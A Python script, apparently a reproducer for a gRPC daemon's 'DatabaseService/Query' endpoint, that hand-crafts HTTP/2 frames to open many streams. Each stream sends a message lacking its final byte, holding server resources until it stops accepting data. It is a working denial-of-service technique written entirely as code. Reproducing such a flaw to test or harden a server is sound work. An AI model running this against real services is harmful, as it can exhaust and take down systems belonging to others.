"""Begins many calls over one connection and finishes no request: each has announced a message
and lacks its last byte. gRPC's own clients cannot do that.

usage: unfinished_requests.py HOST:PORT CALLS BYTES

Prints "stopped" when the daemon takes nothing more, and then keeps what it has.
"""

import select
import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW = 4
MAX_FRAME = 16384


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def main(address, calls, size):
    host, port = address.rsplit(":", 1)
    link = socket.create_connection((host, int(port)))
    link.setblocking(False)
    out = bytearray(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
    headers = b"".join(
        header(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", b"/penstock.v1.DatabaseService/Query"),
            (b":authority", b"x"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )
    initial = 65535
    connection_window = 65535
    windows = {2 * i + 1: initial for i in range(calls)}
    left = {}
    for stream in windows:
        out += frame(HEADERS, 4, stream, headers)
        left[stream] = bytearray(b"\0" + struct.pack(">I", size) + bytes(size - 1))
    received = bytearray()
    last_progress = time.monotonic()
    stopped = False
    while True:
        for stream, rest in left.items():
            room = min(len(rest), windows[stream], connection_window, MAX_FRAME)
            if room <= 0 or len(out) > 1 << 18:
                continue
            out += frame(DATA, 0, stream, bytes(rest[:room]))
            del rest[:room]
            windows[stream] -= room
            connection_window -= room
        readable, writable, _ = select.select([link], [link] if out else [], [], 0.2)
        if writable:
            del out[: link.send(out)]
            last_progress = time.monotonic()
        if readable:
            got = link.recv(1 << 18)
            if not got:
                break
            received += got
        while len(received) >= 9:
            length = int.from_bytes(received[:3], "big")
            if len(received) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", received[3:9])
            payload = bytes(received[9 : 9 + length])
            del received[: 9 + length]
            if kind == SETTINGS and not flags & 1:
                for i in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[i : i + 6])
                    if name == INITIAL_WINDOW:
                        windows = {each: has + value - initial for each, has in windows.items()}
                        initial = value
                out += frame(SETTINGS, 1, 0, b"")
            elif kind == PING and not flags & 1:
                out += frame(PING, 1, 0, payload)
            elif kind == WINDOW_UPDATE and stream == 0:
                connection_window += int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE and stream in windows:
                windows[stream] += int.from_bytes(payload, "big")
            elif kind == RST_STREAM:
                left.pop(stream, None)
        if not stopped and time.monotonic() - last_progress > 1:
            stopped = True
            print("stopped", flush=True)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
